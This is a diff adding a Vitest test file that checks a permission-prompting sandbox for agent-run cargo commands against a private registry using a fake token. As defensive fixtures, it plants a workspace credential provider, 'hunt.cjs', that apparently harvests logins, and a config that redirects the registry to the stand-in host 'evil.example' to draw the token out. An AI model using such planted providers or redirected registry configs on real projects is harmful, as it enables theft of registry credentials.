@@ -1,0 +1,114 @@
+import { existsSync, readFileSync } from "node:fs";
+import { temporaryDirectory } from "@gennai/testkit/temporary-repository";
+import { makeTestCertificates } from "@gennai/testkit/test-certificates";
+import { TestOutside } from "@gennai/testkit/test-outside";
+import { afterEach, beforeEach, expect, test, vi } from "vitest";
+import { AskedSession } from "../asked-session.ts";
+import { staging } from "../staging.ts";
+import { crateRegistry } from "./crate-registry.ts";
+import { hunt } from "./hunt.ts";
+import { keptText } from "./kept-text.ts";
+
+const token = "Bearer npm_correcthorsebattery";
+const name = "registry.example";
+const address = `https://${name}/`;
+
+beforeEach(() => {
+  // Where this machine has cargo by rustup, that finds its own there.
+  if (process.env["RUSTUP_HOME"] === undefined) vi.stubEnv("RUSTUP_HOME", `${process.env["HOME"]}/.rustup`);
+  for (const variable of ["CARGO_HOME", "CARGO_HTTP_CAINFO", "NODE_EXTRA_CA_CERTS", "CURL_CA_BUNDLE"]) {
+    vi.stubEnv(variable, undefined);
+  }
+});
+afterEach(() => vi.unstubAllEnvs());
+vi.setConfig({ testTimeout: 240_000 });
+
+const settings = {
+  ".cargo/config.toml": `[registries.corp]\nindex = "sparse+${address}index/"\n`,
+  ".cargo/credentials.toml": `[registries.corp]\ntoken = "${token}"\n`,
+  ".cargo/registry/CACHEDIR.TAG": "",
+};
+const crate = {
+  "Cargo.toml":
+    '[package]\nname = "app"\nversion = "1.0.0"\nedition = "2021"\n[dependencies]\ndep = { version = "1", registry = "corp" }\n',
+  "src/lib.rs": "pub fn answer() -> u8 { dep::answer() }\n",
+  ".gitignore": "target\n",
+};
+
+test("cargo reads a private registry by one yes that names the login, builds without it, and the session keeps what came", async () => {
+  await using certificates = await makeTestCertificates([`DNS:${name}`]);
+  const { cert, key } = await certificates.issue("server");
+  const tls = { cert: readFileSync(cert, "utf8"), key: readFileSync(key, "utf8") };
+  using registry = await crateRegistry(token, { address, tls });
+  using outside = new TestOutside();
+  outside.host(name, 443, registry.server);
+  await using home = await temporaryDirectory({ ...settings, "ca/ca.crt": certificates.ca });
+  vi.stubEnv("HOME", home.root);
+  vi.stubEnv("SSL_CERT_FILE", home.path("ca/ca.crt"));
+  await using server = await staging(
+    ["cargo build", "cargo build", "rm -r target; cargo build; cat hunted.txt"],
+    {
+      ...crate,
+      // What cargo would ask for a login.
+      ".cargo/config.toml": `[registry]\nglobal-credential-providers = ["cargo:token", "./hunt.cjs"]\n`,
+      "hunt.cjs": `#!/usr/bin/env node\n${hunt}`,
+    },
+    {},
+    { outside },
+  );
+  await using session = await AskedSession.start(server);
+  const login = `the login of cargo's for the registry corp, which is ${address}index/`;
+
+  const first = await session.turn("no");
+  expect(first.questions[0]?.title, first.output).toBe(`Let cargo build reach ${name}:443 with ${login}?`);
+  expect(registry.requests).toEqual([]);
+
+  // The other one is about the project's own check, behind a change: of Cargo.lock.
+  const second = await session.turn("once");
+  expect(
+    second.questions.map(({ computed }) => computed?.rule),
+    second.output,
+  ).toEqual(["keys/use", "project-check/repository-command"]);
+  expect(second.output).toMatch(/Compiling dep v1\.0\.0 .*\n.*Compiling app/);
+  expect(second.output).toContain(`, with ${login}:`);
+  expect(registry.requests).toContain(`GET /api/v1/crates/dep/1.0.0/download ${token}`);
+  expect(registry.requests.filter((request) => !request.endsWith(` ${token}`))).toEqual([]);
+  expect(existsSync(home.path(".cargo/registry/cache"))).toBe(false);
+
+  // It is in the cache of the session.
+  const third = await session.turn();
+  expect(third.questions).toEqual([]);
+  expect(third.output).toContain("Compiling dep v1.0.0");
+  // That program was never started.
+  expect(third.output).toContain("hunted.txt: No such file");
+
+  await server.running[Symbol.asyncDispose]();
+  const ledger = await server.workspace.read(".orchestration/agent_trace.jsonl");
+  expect(ledger).toContain(`"login":"${login}"`);
+  expect(keptText(server).includes("npm_correcthorsebattery")).toBe(false);
+});
+
+test("an address that the workspace has for the name of a registry gets no login", async () => {
+  await using home = await temporaryDirectory(settings);
+  vi.stubEnv("HOME", home.root);
+  using outside = new TestOutside();
+  const said: string[] = [];
+  await outside.pages("evil.example", 80, ({ headers, url }) => {
+    said.push(`${url} ${JSON.stringify(headers)}`);
+    return url === "/config.json" ? { body: '{"dl":"http://evil.example/","auth-required":true}' } : { status: 404 };
+  });
+  await using server = await staging(
+    ["cargo fetch"],
+    { ...crate, ".cargo/config.toml": '[registries.corp]\nindex = "sparse+http://evil.example/"\n' },
+    {},
+    { outside },
+  );
+  await using session = await AskedSession.start(server);
+  const { questions, output } = await session.turn("once");
+  expect(
+    questions.map(({ title }) => title),
+    output,
+  ).toEqual(["Let cargo fetch reach evil.example:80?"]);
+  expect(said.join("\n")).toContain("/config.json");
+  expect(said.join("\n")).not.toContain("correcthorsebattery");
+});
